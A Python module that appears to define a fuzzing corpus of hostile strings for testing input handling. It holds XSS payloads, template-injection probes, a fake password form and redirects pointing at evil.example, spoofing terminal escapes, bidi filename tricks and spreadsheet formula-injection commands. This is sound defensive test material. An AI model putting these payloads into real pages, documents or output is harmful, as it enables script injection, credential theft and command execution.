"""Texts with which a hostile agent or sender would like to be more than text. Over two hundred, from a few patterns."""

from __future__ import annotations

_MARKUP = (
    "<script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    '<div style="position:fixed;inset:0">over</div>',
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>",
    "<button hx-get=//evil.example hx-trigger=load>x</button>",
    "<div hx-on:click=alert(1)>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "{{ request.session }}{% debug %}",
    "{% load x %}{{ settings.SECRET_KEY }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %d %%",
    "{0} {name} {0.__class__}",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<ſcript>alert(1)</ſcript>",
)
_CONTROL = tuple(
    f"a{chr(number)}b" for number in (*range(1, 9), 11, 12, *range(14, 32), *range(0x7F, 0xA0)) if number != 0x1B
)
_ESCAPES = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[8mhidden\x1b[28m",
    "\x1bc",
    "\x1b(0lqk\x1b(B",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\x1bP1$q\x1b\\",
    "\x1b_apc\x1b\\",
    "\x1b[",
    "\x1b",
    "\x1b[999999999999C",
    "\x1b[1;1H\x1b[0Jroot#",
    "\rover",
    "\x08\x08\x08over",
)
_BIDI = tuple(
    f"safe{chr(number)}txt.exe"
    for number in (
        *(0x061C, 0x200B, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2060, 0x2065), *range(0x2066, 0x206A)),
        *(0xFEFF, 0x00AD, 0x180E, 0x2028, 0x2029, 0xFFF9, 0xFFFA, 0xFFFB, 0xE0001, 0xE0041, 0xE007F, 0xE000, 0x110BD),
    )
)
_MARKS = tuple("e" + chr(0x300 + start) * 60 for start in range(0, 40, 2))
_LONG = ("a" * 4000, "<b>" * 1000, "\u202e" * 500, "🂡" * 500, "\n" * 500 + "<script>")
_SHEETS = tuple(f"{sign}cmd|' /C calc'!A0" for sign in "=+-@\t")
_WORDS = tuple(f"{markup}\n{escape}" for markup in _MARKUP[:8] for escape in _ESCAPES[:4])

CORPUS = (*_MARKUP, *_CONTROL, *_ESCAPES, *_BIDI, *_MARKS, *_LONG, *_SHEETS, *_WORDS)
HIDDEN = tuple(
    chr(number) for number in (*range(9), 11, 12, *range(14, 32), *range(0x7F, 0xA0), 0x061C, 0x200B, 0x200E, 0x200F)
) + tuple(chr(number) for number in (*range(0x202A, 0x202F), *range(0x2060, 0x206A), 0xFEFF, 0x2028, 0x2029, 0xE0001))
